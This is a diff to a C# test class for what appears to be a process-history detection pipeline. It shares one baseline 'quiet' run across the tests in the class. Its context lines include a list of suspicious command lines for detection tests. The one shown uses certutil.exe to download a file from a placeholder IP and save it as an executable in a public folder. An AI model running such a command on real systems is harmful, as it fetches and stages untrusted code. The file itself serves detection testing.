@@ -16,6 +16,8 @@ public class ProcessHistoriesTests(AppFixture app, ITestOutputHelper output) : I
 {
     private const int HistoriesARun = 25;
 
+    private static Task<Quiet>? _quiet;
+
     private static readonly (string Child, string CommandLine)[] Bad =
     [
         ("certutil.exe", @"certutil.exe -urlcache -split -f http://198.51.100.7/a.txt C:\Users\Public\a.exe"),
@@ -118,7 +120,13 @@ public class ProcessHistoriesTests(AppFixture app, ITestOutputHelper output) : I
     /// An undisturbed run, in batches of its own size. Small ones: 25 partitions wait for three places, and a partition's whole history in one
     /// batch made the last of them wait for its 24 predecessors, on a slow machine beyond the function timeout.
     /// </summary>
-    private async Task<Quiet> QuietAsync(CancellationToken cancellationToken)
+    private Task<Quiet> QuietAsync(CancellationToken cancellationToken)
+    {
+        // Tests of a class run one after the other: the first makes it for all.
+        return _quiet ??= RunQuietAsync(cancellationToken);
+    }
+
+    private async Task<Quiet> RunQuietAsync(CancellationToken cancellationToken)
     {
         var messages = Histories();
         await using var scoring = await app.StartAsync(AzuriteFixture.UniqueName("quiet"), o => o with { MaxEventBatchSize = 4 });
